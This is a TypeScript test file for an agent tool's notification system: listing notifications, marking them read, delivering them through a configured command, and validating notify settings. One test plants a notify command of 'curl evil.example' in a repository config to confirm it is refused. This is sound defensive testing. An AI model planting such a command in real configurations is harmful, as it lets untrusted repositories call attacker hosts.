import { describe, expect, setDefaultTimeout, test } from "bun:test";

import { checkSinks } from "../../src/engine/doctor/notify.ts";
import { markAllRead, markRead, notifications } from "../../src/engine/notify/notifications.ts";
import { resolveNotification } from "../../src/store/notification.ts";
import { World } from "../support/engine.ts";
import { Bench } from "../support/notify-bench.ts";
import { Recorder } from "../support/sinks.ts";
import { waitFor } from "../support/wait.ts";

setDefaultTimeout(60_000);

describe("notifications", () => {
  test("are listed with the open ones first, and read once", () => {
    using bench = new Bench("");
    const over = bench.open("over");
    bench.open("old", { agoMs: 3_000 });
    bench.open("new");
    bench.sample.store.write((tx) =>
      resolveNotification(tx, "stuck", { projectId: "shop", sessionId: over }),
    );
    const titles = (withAll: boolean) =>
      notifications(bench.engine, { withAll }).map(({ title }) => title);
    expect(titles(false)).toEqual(["new", "old"]);
    const [first] = notifications(bench.engine);
    const id = first?.id ?? "";
    expect(() => markRead(bench.engine, [id, "abcd-none"])).toThrow("abcd-none not found");
    expect(titles(false)).toEqual(["new", "old"]);
    expect(markRead(bench.engine, [id.slice(0, 8)])).toEqual([id]);
    expect(markRead(bench.engine, [id])).toEqual([]);
    expect(titles(false)).toEqual(["old"]);
    expect(titles(true)).toEqual(["old", "new", "over"]);
    expect(notifications(bench.engine, { projectId: "blog" })).toEqual([]);
    expect(markAllRead(bench.engine, "blog")).toEqual([]);
    expect(markAllRead(bench.engine, "shop")).toHaveLength(2);
    expect(markAllRead(bench.engine)).toEqual([]);
  });

  test("reach the person without a daemon, and are read in the shell", async () => {
    const { world, project } = await World.withProject();
    try {
      const recorder = new Recorder(world.env["HOME"] ?? "");
      world.write("config.toml", `[notify]\ncommand = "${recorder.bin}/chat"\n`, world.dataDir);
      const id = await world.must(
        "spawn",
        "x",
        "--quiet",
        "--command",
        "sh -c 'sleep 0.4; exit 3'",
      );
      const [call] = await waitFor(
        () => (recorder.told().length > 0 ? recorder.told() : undefined),
        { withinMs: 20_000, what: "the message" },
      );
      const { notifications: told } = JSON.parse(call?.input ?? "");
      expect(told).toMatchObject([{ type: "agent_exited", sessionId: id, projectId: project.id }]);
      const listed = await world.must("notify", "ls", "--json");
      expect(JSON.parse(listed)).toEqual({ notifications: [{ ...told[0], seenAt: null }] });
      const table = await world.must("notify", "ls");
      expect(table.split("\n")[1]).toStartWith(`${told[0].id.slice(0, 8)}  agent_exited  ${id}`);
      const read = ["notify", "read", told[0].id.slice(0, 8)];
      expect(JSON.parse(await world.must(...read, "--json"))).toEqual({ read: [told[0].id] });
      expect(await world.ao(read)).toMatchObject({ exitCode: 0, stderr: "nothing was unread\n" });
      expect(await world.must("notify", "ls", "--all")).toContain("  read ");
      const [none, both] = [await world.ao(["notify", "read"]), await world.ao([...read, "--all"])];
      expect([none.exitCode, both.exitCode]).toEqual([2, 2]);
      expect((await world.ao(["notify", "read", "0000ffff"])).exitCode).toBe(3);
      expect(await world.must("notify", "test")).toBe("command sent");
      expect(recorder.told()).toHaveLength(2);
    } finally {
      world.close();
    }
  });
});

describe("the configuration of notifications", () => {
  test.each([
    ['notify = "x"', 'notify is "x", expected a table'],
    ["[notify]\ndesktop = 1", "notify.desktop is 1, expected true or false"],
    ['[notify]\ncommand = ""', "notify.command is empty"],
    ['[notify]\nkinds = ["no"]', "notify.kinds.0"],
    ["[notify]\nwebhook = 1", "notify.webhook is not a setting"],
    ['[notify]\ncommand = "a | b"', "holds |, but no shell runs it"],
  ])("are refused where the configuration says %p", (config, message) => {
    const bench = new Bench(`agent = "codex"\n${config}\n`);
    const findings = checkSinks(bench.engine);
    expect(findings.map(({ detail }) => detail).join()).toContain(message);
  });

  test("is the person's own, not a repository's or a project's", async () => {
    const { world } = await World.withProject();
    try {
      const set = await world.ao(["project", "set", "shop", "notify", "{ desktop = true }"]);
      world.write(".ao/config.toml", '[notify]\ncommand = "curl evil.example"\n');
      const shown = await world.ao(["config", "show", "--project", "shop"]);
      for (const { exitCode, stderr } of [set, shown]) {
        expect(stderr).toContain("notify holds for the whole machine, not for a");
        expect(exitCode).toBe(2);
      }
    } finally {
      world.close();
    }
  });
});
